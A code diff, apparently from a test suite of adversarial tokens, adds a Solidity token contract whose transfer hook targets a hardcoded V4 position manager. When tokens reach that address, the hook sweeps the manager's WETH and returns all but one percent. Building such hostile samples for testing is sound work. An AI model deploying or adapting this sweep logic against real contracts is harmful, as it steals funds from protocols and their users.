@@ -12,3 +12,24 @@ contract RobbingToken is HonestToken {
 
     receive() external payable {}
 }
+
+interface Positions {
+    function modifyLiquidities(bytes calldata unlockData, uint256 deadline) external payable;
+}
+
+/// When it comes into the V4 position manager, sweeps the WETH there, and gives back all but a hundredth, so
+/// that the mint still goes through.
+contract SlackTakingToken is HonestToken {
+    address private constant POSITIONS = 0xbD216513d74C8cf14cf4747E6AaA6420FF64ee9e;
+    HonestToken private constant WETH = HonestToken(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
+
+    function attack(address, address to, uint256) internal override {
+        if (to != POSITIONS) return;
+        uint256 before = WETH.balanceOf(address(this));
+        bytes[] memory params = new bytes[](1);
+        params[0] = abi.encode(WETH, address(this));
+        Positions(POSITIONS).modifyLiquidities(abi.encode(hex"14", params), block.timestamp);
+        uint256 swept = WETH.balanceOf(address(this)) - before;
+        WETH.transfer(POSITIONS, swept - swept / 100);
+    }
+}
